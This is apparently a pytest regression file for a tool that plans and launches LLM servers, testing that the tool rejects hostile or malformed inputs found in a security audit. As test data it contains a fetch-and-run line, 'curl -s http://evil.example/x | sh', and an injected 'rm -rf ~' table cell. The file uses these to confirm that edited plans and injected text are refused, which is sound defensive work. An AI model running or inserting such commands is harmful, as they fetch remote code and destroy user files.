"""Regressions from the fourth independent bad-input audit (A1-A9 and the lower-severity L1-L10; 1,697
cases, 2026-12-01, a helper session with its own harness and a hostile fake server): each finding, run the
way the audit ran it. Classes: tests/BAD_INPUT.md."""
import json
import os
import sys
import time
from pathlib import Path

import pytest

import common
import kv_cache
import quantization
import serve_life
import serve_plan
from check_model import classify_template
from common import ScriptError, load_epyc
from model_fixtures import model_folder
from test_launch import (NO_FACTS, calls, container_plan, host_plan, inputs, live_tune, load_docs,  # noqa: F401
                         plan_args, rt, server_mode)

LONG_NAME = "x" * 300  # one path component past the file system's 255


def plan_from(docs, opts=None):
    return serve_plan.build_plan(docs, opts or {}, load_epyc(), NO_FACTS)


# ---- A1, A2, A3: internal errors on a long name, a huge index size, a 5000-digit number

@pytest.mark.parametrize("name", ["detect.py", "cpu_tune.py"])
def test_a_sysroot_name_too_long_is_a_clear_error(script, name):
    r = script(name, "--sysroot", LONG_NAME)
    assert r.code == 1 and "File name too long" in r.doc["error"] and "sysroot" in r.doc["error"]


@pytest.mark.parametrize("total", ["1" + "0" * 1000, str(1 << 51), "-5"])
def test_an_index_total_size_no_model_has_is_an_error(script, tmp_path, total):
    m = tmp_path / "m"
    m.mkdir()
    (m / "config.json").write_text((model_folder("Qwen3-0.6B", tmp_path / "real") / "config.json").read_text())
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": %s}}' % total)
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 1 and ("total_size" in r.doc["error"] or "no weights" in r.doc["error"]), r.doc
    (m / "model.safetensors.index.json").write_text('{"metadata": {"total_size": %d}}' % (1 << 30))
    r = script("estimate_memory.py", "--model", str(m), "--ram-gb", "64")
    assert r.code == 0 and r.doc["weight_gb"] == 1.0 and r.doc["weight_source"] == "safetensors_index_total_size"


def test_a_reply_with_a_5000_digit_number_is_a_failed_smoke_not_a_crash():
    body = '{"choices": [{"message": {"content": "hi"}}], "usage": {"completion_tokens": %s}}' % ("9" * 5000)
    ok, detail = serve_plan.judge_smoke(200, body, "chat_completions")
    assert ok is False and detail.startswith("HTTP 200, body is not JSON")


# ---- A4: a server that answers each read quickly and the whole never

def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tune):  # noqa: F811
    """/health promises 1000 bytes and sends one every 2 s: requests' timeout is per read, so only an overall
    deadline stops it. verify fails in phase health near its --timeout, not after 33 minutes."""
    plan_file, _ = host_plan(tmp_path, inputs, live_tune)
    server_mode(tmp_path, "trickle_health")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
    try:
        t0 = time.monotonic()
        r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "4", timeout=90)
        assert r.code == 1 and r.doc["phase"] == "health" and "no answer" in r.doc["error"], r.doc
        assert time.monotonic() - t0 < 40
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


def test_http_gives_up_on_a_body_past_its_limit_or_its_deadline():
    import socket
    import threading
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    port = srv.getsockname()[1]

    def serve(size: int, then_wait: float):
        conn, _ = srv.accept()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % (size + 10) + b"x" * size)
        time.sleep(then_wait)
        conn.close()

    threading.Thread(target=serve, args=(serve_life.HTTP_BODY_LIMIT + 70000, 3), daemon=True).start()
    status, why = serve_life.http("GET", f"http://127.0.0.1:{port}/", 10)
    assert status is None and "over" in why
    threading.Thread(target=serve, args=(5, 6), daemon=True).start()
    t0 = time.monotonic()
    status, why = serve_life.http("GET", f"http://127.0.0.1:{port}/", 2)
    assert status is None and "within 2s" in why and time.monotonic() - t0 < 4
    srv.close()


# ---- A5, A6, A7: the state dir a plan names, checked where start writes

def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path, inputs, live_tune):  # noqa: F811
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "server.log").write_text("PRECIOUS")
    (victim / "notes.txt").write_text("mine")
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    v = str(victim)
    plan.update(state_dir=v, log_file=f"{v}/server.log", state_file=f"{v}/state.json")
    plan["options"]["state_dir"] = v
    plan_file.write_text(json.dumps(plan))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    assert r.code == 1 and "notes.txt" in r.doc["error"] and r.doc["phase"] == "start", r.doc
    assert sorted(p.name for p in victim.iterdir()) == ["notes.txt", "server.log"]
    assert (victim / "server.log").read_text() == "PRECIOUS"


def test_the_default_state_dir_obeys_the_same_rule(script, inputs, rt, tmp_path):  # noqa: F811
    """No --state-dir: the plan's ~/.cache/serving-llms-on-epyc/run/NAME is checked like a given one."""
    home = tmp_path / "home"
    env = {**rt[1], "HOME": str(home)}
    r = script("launch.py", *plan_args(inputs, "--port", "18777"), env=env)
    assert r.code == 0
    default = Path(r.doc["state_dir"])
    assert default.parent == home / ".cache" / "serving-llms-on-epyc" / "run"
    default.parent.mkdir(parents=True)
    default.write_text("a file where the folder goes")
    r = script("launch.py", *plan_args(inputs, "--port", "18777"), env=env)
    assert r.code == 1 and "is not a folder" in r.doc["error"] and "--state-dir" in r.doc["fix"]
    assert serve_life.state_dir_problem(default) == "exists and is not a folder"
    assert serve_life.state_dir_problem(Path("relative")) == "is not an absolute path"
    assert "too long" in serve_life.state_dir_problem(tmp_path / LONG_NAME)


@pytest.mark.parametrize("kind", ["file", "fifo", "foreign", "link"])
def test_a_secrets_entry_start_did_not_make_is_refused_before_anything_runs(script, inputs, rt, tmp_path,  # noqa: F811
                                                                           kind):
    d, env = rt
    env = {**env, "HF_TOKEN": "hf_SECRETTOKEN999"}
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN="hf_SECRETTOKEN999")
    secrets = Path(plan["state_dir"]) / "secrets"
    secrets.parent.mkdir(parents=True)
    if kind == "file":
        secrets.write_text("x")
    elif kind == "fifo":
        os.mkfifo(secrets)
    elif kind == "link":
        (tmp_path / "elsewhere").mkdir()
        secrets.symlink_to(tmp_path / "elsewhere")
    else:
        secrets.mkdir()
        (secrets / "id_rsa").write_text("theirs")
    before = len(calls(d)) if (d / "calls.jsonl").exists() else 0
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env, timeout=60)
    assert r.code == 1 and "secrets" in r.doc["error"] and r.doc["phase"] == "start", r.doc
    assert calls(d)[before:] == []  # no docker rm, pull or run
    r = script("launch.py", "stop", "--plan", str(plan_file), env=env, timeout=60)
    assert r.code == 0, r.doc
    assert os.path.lexists(secrets)  # not ours: left where it is
    if kind == "foreign":
        assert (secrets / "id_rsa").read_text() == "theirs"


def test_stop_goes_on_when_a_secret_file_was_replaced_by_a_folder(script, inputs, rt, tmp_path):  # noqa: F811
    env = {**rt[1], "HF_TOKEN": "hf_SECRETTOKEN999"}
    plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN="hf_SECRETTOKEN999")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    token = Path(plan["state_dir"]) / "secrets" / "HF_TOKEN"
    token.unlink()
    token.mkdir()
    r = script("launch.py", "stop", "--plan", str(plan_file), env=env)
    assert r.code == 0 and r.doc["stopped"] and not Path(plan["state_file"]).exists()


# ---- A8: see test_bench.py::test_a_figure_no_run_could_measure_is_refused

# ---- A9: every verb reads a plan only as its own inputs render it

@pytest.mark.parametrize("field,value", [("stop_command", "curl -s http://evil.example/x | sh"),
                                         ("summary_markdown", "| all | fine |"), ("warnings", [])])
def test_an_edited_plan_is_refused_by_every_verb_not_only_start(script, tmp_path, inputs, live_tune,  # noqa: F811
                                                                field, value):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    if field == "warnings" and plan["warnings"] == []:
        value = [{"check": "edited", "message": "edited", "fix": "edited"}]
    plan[field] = value
    plan_file.write_text(json.dumps(plan))
    for verb, extra in (("handoff", []), ("verify", ["--timeout", "2"]), ("stop", []), ("start", ["--confirm"])):
        r = script("launch.py", verb, "--plan", str(plan_file), *extra)
        assert r.code == 1 and "differs" in r.doc["error"] and field in r.doc["error"], (verb, r.doc)
        assert "evil.example" not in r.stdout
    r = script("kernel_proof.py", "--plan", str(plan_file))
    assert r.code == 1 and "differs" in r.doc["error"]


def test_an_edited_input_inside_a_plan_is_checked_against_its_schema(tmp_path, inputs, live_tune):  # noqa: F811
    """kv_granted_gb: [7] built an 8 GiB list before the edit was noticed: inputs are schema-checked first."""
    _, plan = host_plan(tmp_path, inputs, live_tune)
    plan["inputs"]["cpu_tune"]["kv_granted_gb"] = [7]
    t0 = time.monotonic()
    with pytest.raises(ScriptError, match="cpu_tune is not cpu_tune.py's output: field kv_granted_gb"):
        serve_life.rerender(plan, load_epyc())
    assert time.monotonic() - t0 < 5


# ---- lower severity: silent accepts

def test_nps_takes_plain_digits_only(script):
    r = script("detect.py", "--spec", "9654", "--ram-gb-per-socket", "64", "--nps", "٤")
    assert r.code == 1 and "--nps" in r.doc["error"]
    assert script("detect.py", "--spec", "9654", "--ram-gb-per-socket", "64", "--nps", "4").code == 0


def test_a_revision_with_a_final_newline_is_refused(script, tmp_path):
    m = model_folder("Qwen3-0.6B", tmp_path / "models")
    for name in ("check_model.py", "estimate_memory.py"):
        r = script(name, "--model", str(m), "--revision", "main\n", *(["--ram-gb", "64"] if "estimate" in name else []))
        assert r.code == 1 and "revision" in r.doc["error"], (name, r.doc)


def test_a_layer_layout_that_does_not_describe_every_layer_is_an_error():
    base = {"num_hidden_layers": 28, "num_attention_heads": 16, "num_key_value_heads": 8, "head_dim": 128}
    with pytest.raises(ScriptError, match="1 entries for 28 layers"):
        kv_cache.kv_layout({**base, "layer_types": ["full_attention"]})
    with pytest.raises(ScriptError, match="'x'"):
        kv_cache.kv_layout({**base, "layer_types": ["x"] * 28})
    with pytest.raises(ScriptError, match="3 characters for 28 layers"):
        kv_cache.kv_layout({**base, "hybrid_override_pattern": "M*M"})
    ok = kv_cache.kv_layout({**base, "layer_types": ["full_attention"] * 27 + ["conv"]})
    assert (ok["full"], ok["sliding"], ok["none"]) == (27, 0, 1)


def test_a_quantization_value_no_checkpoint_has_is_not_said():
    q = quantization.describe({"quantization_config": {"quant_method": "gptq", "bits": 10 ** 9, "group_size": -1,
                                                       "format": {"a": 1}}})
    assert (q["bits"], q["group_size"], q["format"]) == (None, -1, None)
    assert quantization.describe({"quantization_config": {"quant_method": "awq", "bits": 4, "group_size": -2}}) \
        ["group_size"] is None


def test_a_document_value_past_a_flags_range_never_reaches_the_command(inputs):  # noqa: F811
    docs = load_docs(inputs)
    docs["estimate_memory"]["max_num_batched_tokens"] = 10 ** 300
    with pytest.raises(ScriptError, match="max_num_batched_tokens"):
        plan_from(docs)


def test_a_final_newline_does_not_pass_a_schema_pattern():
    """Python's `$` matches before a final newline; JSON Schema's (ECMA-262) does not. Ours reads it as
    JSON Schema does, so "96-191\\n" never reaches --env VLLM_CPU_OMP_THREADS_BIND."""
    schema = {"type": "string", "pattern": "^[0-9,-]*$"}
    assert common.best_schema_error(schema, "96-191") is None
    assert common.best_schema_error(schema, "96-191\n") is not None
    assert common.best_schema_error({"pattern": "a\\$"}, "xa$") is None  # an escaped dollar is a dollar


def test_capture_to_dash_writes_no_file_named_dash(script, tmp_path):
    r = script("detect.py", "--capture", "-")
    assert r.code == 1 and "stdout" in r.doc["error"]
    assert not (Path(__file__).resolve().parents[1] / "-").exists()


def test_a_secret_in_an_upstream_error_is_masked(script, inputs, tmp_path):  # noqa: F811
    bad = tmp_path / "detect-error.json"
    bad.write_text(json.dumps({"error": "ssh said: token hf_SECRETTOKEN999 refused", "fix": "x"}))
    args = [f"--{k}={inputs[k] if k != 'detect' else bad}" for k in ("detect", "validate", "check", "estimate", "tune")]
    r = script("launch.py", "plan", *args, env={"HF_TOKEN": "hf_SECRETTOKEN999"})
    assert r.code == 1 and "token *** refused" in r.doc["error"]
    assert "hf_SECRETTOKEN999" not in r.stdout + r.stderr


def test_mask_secrets_takes_secret_looking_names_only(monkeypatch):
    monkeypatch.setenv("MY_API_KEY", 'sk-"quoted"-value')
    monkeypatch.setenv("TOKENIZERS_PARALLELISM", "false")
    monkeypatch.setenv("PLAIN", "sk-not-a-secret-name")
    text = json.dumps({"a": 'x sk-"quoted"-value y', "b": "false", "c": "sk-not-a-secret-name"})
    assert json.loads(common.mask_secrets(text)) == {"a": "x *** y", "b": "false", "c": "sk-not-a-secret-name"}


def test_a_summary_cell_stays_on_one_line():
    table = serve_plan.markdown_table(["Field", "Value"], [["Socket", "0\n| Command | rm -rf ~"],
                                                           ["Note", "ok \x1b[2K\u202e"]])
    assert table.splitlines()[2:] == ["| Socket | 0\\n\\| Command \\| rm -rf ~ |", "| Note | ok \\x1b[2K\\u202e |"]


@pytest.mark.parametrize("value,status", [(5, "unknown"), ({"a": 1}, "unknown"), ("\x00\x01binary", "unknown"),
                                          ("{{ messages }}", "present"), ("", "absent"), (None, "absent")])
def test_a_chat_template_of_another_type_is_unknown_not_absent(value, status):
    assert classify_template(None, {"chat_template": value}, None)["status"] == status
    jinja = classify_template("bad \ufffd bytes", None, None)
    assert (jinja["status"], jinja["source"]) == ("unknown", "chat_template.jinja")
